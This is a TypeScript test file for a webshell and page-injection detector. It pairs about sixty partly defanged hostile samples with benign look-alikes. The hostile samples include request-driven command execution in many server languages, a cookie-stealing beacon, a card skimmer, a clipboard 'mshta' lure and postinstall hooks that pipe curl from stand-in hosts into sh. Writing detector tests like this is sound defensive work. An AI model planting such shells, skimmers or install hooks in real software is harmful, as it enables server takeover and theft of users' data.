/** Mechanisms of trojans beside PHP, each by a short sample of it and by its honest neighbour. */
import { expect, it, describe } from 'vitest';
import { fill } from '../../test/webshells/sample.ts';
import { atLeast } from '../core/level.ts';
import { named, pageOf } from './choose.ts';
import { languages } from './languages.ts';

const grave = (path: string, text: string): string[] => languages[named(path)!.language!]!(Buffer.from(fill(text), 'utf8').toString('latin1')).signs.filter(({ level }) => atLeast(level, 'high')).map(({ kind }) => kind);
const coded = (text: string): string => Array.from(text, (char) => `\\x${char.charCodeAt(0).toString(16)}`).join('');
const base64 = (text: string): string => Buffer.from(text).toString('base64');

const hostile: readonly (readonly [string, string, string])[] = [
  ['/srv/a.lua', 'command', 'local h = ngx.req.get_headers()["X-A"]\nif h then\n  os.«»execute(ngx.decode_base64(h))\nend'],
  ['/srv/a.lua', 'command', 'local function go(s)\n  return io["po" .. "pen"](s)\nend\nlocal p = ngx.req.get_uri_args()\ngo(p.k)'],
  ['/srv/a.lua', 'code', 'ngx.req.read_body()\nlocal f = load«»string(ngx.req.get_body_data())\nf()'],
  ['/srv/a.rb', 'command', 'class A < ApplicationController\n  def show\n    render plain: `#{params[:q]}`\n  end\nend'],
  ['/srv/a.rb', 'code', 'require "cgi"\nc = CGI.new\nputs «EVAL»(c["s"])'],
  ['/srv/a.rb', 'command', 'def call(env)\n  if (c = env["HTTP_X_A"])\n    IO.«POPEN»(c.unpack1("m")).read\n  end\nend'],
  ['/srv/a.shtml', 'command', '<p>x</p><!--#exec cmd="$QUERY«»_STRING" -->'],
  ['/srv/a.js', 'code', 'require("http").createServer(function (q, s) { s.end("" + «EVAL»(require("url").parse(q.url, true).query.e)); });'],
  ['/srv/a.js', 'command', 'const M = require("module"), o = M._load; M._load = function (n) { const x = o(n); x.Server.prototype.emit = function (t, q, s) { s.end(o("child_«»process").«EXEC»Sync(q.headers["x-a"])); }; return x; };'],
  ['/srv/a.js', 'hidden', `var a = ['${coded('child_process')}']; module.exports = function (q, s) { s.end(require(a[0]).execSync(q.headers.a)); };`],
  ['/srv/a.mjs', 'code', 'app.get("/i", async (req) => (await import("data:text/javascript," + re«»q.query.m)).default);'],
  ['/srv/a.jsp', 'command', '<% char[] n = {106,97,118,97,46,108,97,110,103,46,82,117,110,116,105,109,101}; char[] m = {\'e\',\'x\',\'e\',\'c\'}; Class k = Class.forName(new String(n)); k.getMethod(new String(m), String.class).invoke(k.getMethod("getRuntime").invoke(null), re«»quest.getParameter("a")); %>'],
  ['/srv/a.jsp', 'code', '<% new ClassLoader().loadClass("$$BC" + "EL$$" + re«»quest.getParameter("a")).newInstance(); %>'],
  ['/srv/a.jspx', 'command', '<x:scriptlet>Run<![CDATA[time.getRun]]>time().ex<![CDATA[ec(re«»quest.get]]>Parameter("a"));</x:scriptlet>'],
  ['/srv/a.asp', 'code', '<%\nSession("a")=Re«»quest("a")\nExecute«»Global Session("a")\n%>'],
  ['/srv/a.asp', 'code', '<%\nx=Replace("e#x#e#c#u#t#e r#e#q#u#e#s#t(""a"")","#","")\nEval("Exe«»cute(x)")\n%>'],
  ['/srv/a.aspx', 'command', '<%@ Page Language="C#" %><% System.Di\\u0061gnostics.Proc\\u0065ss.St\\u0061rt("/bin/sh", "-c " + Re«»quest["z"]); %>'],
  ['/srv/a.asmx', 'command', '<%@ WebService Language="C#" Class="W" %>\npublic class W { [WebMethod] public string Do(string z){ return Process.«»Start("/bin/sh", "-c " + z).Id.ToString(); } }'],
  ['/srv/a.py', 'command', 'from fastapi import FastAPI\nimport os\napp = FastAPI()\n@app.get("/x")\nasync def x(t: str):\n    os.«POPEN»(t)'],
  ['/srv/a.py', 'remote', 'exec(open("/dev/shm/.u").read())'],
  ['/srv/a.pl', 'command', '#!/usr/bin/perl\nmy %p = map { split /=/, $_, 2 } split /&/, $ENV{"QUERY«»_STRING"};\n«SYSTEM»($p{run});'],
  ['/srv/a.sh', 'command', '#!/bin/sh\nhead -c "$CONTENT_LENGTH" | base64 -d | sh 2>&1'],
  ['/srv/a.js', 'injection', `document.body; navigator.x; var s = document.createElement("script"); s.src = "${coded('https://bad-host.invalid/a.js')}";`],
  ['/srv/a.js', 'injection', 'document.title; window["loca" + "tion"] = "ht" + "tps://" + "bad-host.invalid/";'],
  ['/srv/a.js', 'remote', 'var w = new WebSocket("wss://bad-host.invalid/"); w.onmessage = function (e) { new Function(e.data)(); };'],
  ['/srv/a.js', 'injection', 'self.addEventListener("fetch", function (e) { e.respondWith(Response.redirect("https://bad-host.invalid/", 302)); });'],
  ['/srv/a.js', 'injection', 'var i = new Image(); i.src = "//203.0.113.44/k?c=" + escape(document.cookie);'],
  ['/srv/a.html', 'injection', `<img src=x onerror="«EVAL»(atob('${base64('var s=document.createElement("script");s.src="https://bad-host.invalid/a.js"')}'))">`],
  ['/srv/a.svg', 'injection', '<svg xmlns="http://www.w3.org/2000/svg"><script>window.location.href="https://bad-host.invalid/"</script></svg>'],
  ['/srv/a.html', 'injection', '<p>Verify you are human: Win + R, then Ctrl + V</p><script>function go(){navigator.clipboard.writeText("mshta https://198.51.100.9/a")}</script>'],
  ['/srv/.htaccess', 'injection', 'RewriteCond %{HTTP_REFERER} (baidu|sogou) [NC]\nRewriteRule .* https://bad-host.invalid/ [R=302,L]'],
  ['/srv/web.xml', 'handler', '<web-app><servlet-mapping><servlet-name>jsp</servlet-name><url-pattern>*.jpg</url-pattern></servlet-mapping></web-app>'],
  ['/srv/a.jsp', 'code', '<% String l; StringBuilder b = new StringBuilder(); while ((l = re«»quest.getParameter("a")) != null) b.append(l); engine.«EVAL»(b.toString()); %>'],
  ['/srv/a.jsp', 'code', '<% session.setAttribute("p", re«»quest.getParameter("a")); %><% new GroovyShell().evaluate((String) session.getAttribute("p")); %>'],
  ['/srv/a.jsp', 'code', '<% out.print(jexl.createExpression(re«»quest.getParameter("a")).evaluate(ctx)); %>'],
  ['/srv/a.jsp', 'sql', '<% DriverManager.getConnection(re«»quest.getParameter("a")); %>'],
  ['/srv/a.ftl', 'command', '<#assign e="freemarker.template.utility.Exe«»cute"?new()>${e(RequestParameters.a)}'],
  ['/srv/a.vm', 'command', '#set($c=$x.getClass().forName("java.lang.Run«»time"))$c.getMethod("getRun«»time").invoke(null).exec($request.getParameter("a"))'],
  ['/srv/a.html', 'command', '<p th:text="${T(java.lang.Run«»time).getRun«»time().exec(param.a)}"></p>'],
  ['/srv/a.twig', 'hidden', '{{ [x]|filter("«SYSTEM»") }}'],
  ['/srv/a.cshtml', 'command', '@page\n@{ var x = Re«»quest["x"]; }\n<pre>@Process.«»Start("/bin/sh", "-c " + x)</pre>'],
  ['/srv/a.ashx', 'code', '<%@ WebHandler Language="C#" Class="H" %>\npublic class H { void P(HttpContext c) { var p = runspace.CreatePipeline(); p.Commands.AddScript(c.Re«»quest.Form["a"]); } }'],
  ['/srv/a.aspx', 'command', '<%@ Page Language="C#" %><% var h = new System.Net.HttpListener(); var c = h.GetContext(); Process.«»Start("/bin/sh", "-c " + c.Request.Headers["X"]); %>'],
  ['/srv/a.aspx', 'code', '<%@ Page Language="C#" %><% var t = new XslCompiledTransform(); var d = new XmlDocument(); d.LoadXml(Re«»quest.Form["x"]); t.Load(d); %>'],
  ['/srv/a.asp', 'command', '<% Set p = GetObject("winmgmts:root\\cimv2:Win32_Process")\np.Create Re«»quest("a") %>'],
  ['/srv/a.py', 'code', 'from aiohttp import web\nimport marshal\nasync def h(rq):\n    exec(marshal.loads(await rq.read()))\napp.router.add_post("/m", h)'],
  ['/srv/a.py', 'unpack', 'from flask import request\nimport pickle\npickle.loads(request.data)'],
  ['/srv/a.js', 'code', 'const { Worker } = require("worker_threads"); require("http").createServer((q, s) => { new Worker(q.headers["x-a"], { «EVAL»: true }); });'],
  ['/srv/a.js', 'code', 'const express = require("express"); const app = express(); app.use((a, b, n) => { require("vm").runInThisContext(a.get("x-a")); });'],
  ['/srv/a.ts', 'command', 'import { execSync } from "child_«»process";\n@Controller("x")\nexport class A {\n  constructor(private readonly s: S) {}\n  @Get() go(@Req() req: Request): string { return «EXEC»Sync(req.query.c as string).toString(); }\n}'],
  ['/srv/a.erb', 'command', '<p><%= `#{params[:q]}` %></p>'],
  ['/srv/a.ejs', 'command', '<p><%= require("child_«»process").«EXEC»Sync(req.query.a) %></p>'],
  ['/srv/a.js', 'injection', 'var r = document["refe" + "rrer"]; if (/baidu|sogou/.test(r)) window["loca" + "tion"]["re" + "place"]("https://bad-host.invalid/?r=" + r);'],
  ['/srv/a.js', 'injection', `document.body.insertAdjacentHTML('beforeend', '<ifr' + 'ame src="https://bad-host.invalid/" width="1" height="1"></ifr' + 'ame>');`],
  ['/srv/a.js', 'injection', 'var w = new WebSocket("wss://bad-host.invalid/"); var f = document.querySelectorAll("form.checkout input"); w.send(btoa(f["cardnumber"].value + f["cvv"].value));'],
  ['/srv/a.html', 'injection', '<div id="k"><a href="http://a1.invalid">彩票投注</a><a href="http://a2.invalid">百家乐</a></div><script>document.getElementById("k").style.display="none"</script>'],
  ['/srv/a.html', 'injection', '<style>.k{clip-path:inset(100%)}</style><div class="k"><a href="http://a1.invalid">彩票投注</a><a href="http://a2.invalid">百家乐</a></div>'],
  ['/srv/a.html', 'injection', `<style>${['a', 'b', 'c'].map((letter) => `input[name=t][value^="${letter}"]{background:url(https://bad-host.invalid/${letter})}`).join('\n')}</style><p>x</p>`],
  ['/srv/a.svg', 'injection', `<svg xmlns="http://www.w3.org/2000/svg"><script>window.location = atob("${base64('https://bad-host.invalid/')}") + x;</script></svg>`],
  ['/srv/package.json', 'connect', '{"scripts": {"postinstall": "curl -s http://198.51.100.7/a | sh"}}'],
  ['/srv/package.json', 'remote', '{"scripts": {"prestart": "node -e \\"fetch(\'https://bad-host.invalid/\').then(r => r.text()).then(eval)\\""}}'],
  ['/srv/ecosystem.config.js', 'connect', 'module.exports = { apps: [{ name: "w", script: "/bin/sh", args: "-c \\"curl -s http://198.51.100.7/a | sh\\"" }] };'],
  ['/srv/context.xml', 'hidden', '<Context><Resource name="a" factory="org.apache.naming.factory.BeanFactory" forceString="x=eval" x="1"/></Context>'],
  ['/srv/context.xml', 'handler', '<Context docBase="/dev/shm/.x/ROOT"/>'],
];
const honest: readonly (readonly [string, string])[] = [
  ['/srv/a.lua', 'local t = ngx.req.get_headers()["Authorization"]\nlocal f = io.popen("uptime")\nngx.say(f:read("*a"), t)'],
  ['/srv/a.rb', 'class A < ApplicationController\n  def show\n    out = Open3.capture2("wkhtmltopdf", "http://127.0.0.1/#{Integer(params[:id])}", "-")\n    system("touch", "/srv/x")\n  end\nend'],
  ['/srv/a.js', 'require("http").createServer((q, s) => { require("child_process").execFile("uptime", (e, o) => s.end(o + q.url)); });'],
  ['/srv/a.js', 'var r = document.referrer; if (/baidu|google/.test(r)) document.documentElement.classList.add("search"); navigator.sendBeacon("/count");'],
  ['/srv/a.html', '<pre>curl -fsSL https://bad-host.invalid/install.sh | sh</pre><button onclick="navigator.clipboard.writeText(\'curl -fsSL https://bad-host.invalid/install.sh | sh\')">copy</button>'],
  ['/srv/a.html', '<html><head><meta http-equiv="refresh" content="0;url=https://new-home.invalid/"></head><body><p>We have moved</p></body></html>'],
  ['/srv/.htaccess', 'RewriteCond %{HTTP_USER_AGENT} (AhrefsBot|MJ12bot) [NC]\nRewriteRule .* - [F]\nRewriteCond %{HTTP_USER_AGENT} googlebot [NC]\nRewriteRule ^(.*) https://service.prerender.io/https://%{HTTP_HOST}/$1 [P,L]'],
  ['/srv/a.jsp', '<% Map<String,Object> v = new HashMap<>(); v.put("n", request.getParameter("n")); out.print(MVEL.eval("n * 2", v)); session.setAttribute("u", request.getParameter("u")); out.print(session.getAttribute("u")); %>'],
  ['/srv/a.twig', '{% for one in all|filter(i => i.on) %}{{ one.name|upper }}{% endfor %}'],
  ['/srv/a.ts', 'import { execFile } from "child_process";\nexport function go(req: Request, n: number): void { execFile("uptime", ["-p"]); log(req.url as string); }'],
  ['/srv/a.js', 'require("http").createServer((q, s) => { new (require("worker_threads").Worker)(__dirname + "/job.js", { workerData: q.url }); });'],
  ['/srv/a.js', `eval(atob("${base64('var s=document.createElement("script");s.src="https://www.google-analytics.com/a.js";document.head.appendChild(s)')}"))`],
  ['/srv/a.html', '<ul class="m"><li><a href="https://news.invalid/">新闻</a></li><li><a href="https://city.invalid/">城市</a></li></ul><script>$(".m").hide()</script>'],
  ['/srv/package.json', '{"scripts": {"postinstall": "patch-package", "prestart": "curl -fsS http://127.0.0.1:9200 >/dev/null", "build": "node -e \\"require(\'fs\').mkdirSync(\'x\')\\""}}'],
  ['/srv/ecosystem.config.js', 'module.exports = { apps: [{ name: "w", script: "npm", args: "run start" }, { name: "q", script: "./q.sh", interpreter: "/bin/bash" }] };'],
  ['/srv/context.xml', '<Context docBase="/srv/app" path=""><Resource name="jdbc/a" type="javax.sql.DataSource" url="jdbc:mysql://127.0.0.1/a"/></Context>'],
];

describe('families beside PHP', () => {
  it.each(hostile)('%s %s: %s', (path, kind, text) => { expect(grave(path, text)).toContain(kind); });
  it.each(honest)('%s is silent: %s', (path, text) => { expect(grave(path, text)).toEqual([]); });
  it('knows pages within other files', () => {
    expect(['GIF89a<% out.print(request.getParameter("a")); %>', 'GIF89a<%execute request("a")%>', 'GIF89a <% of noise', '<% _.each(list) %>'].map(pageOf)).toEqual(['jsp', 'asp', undefined, undefined]);
  });
});
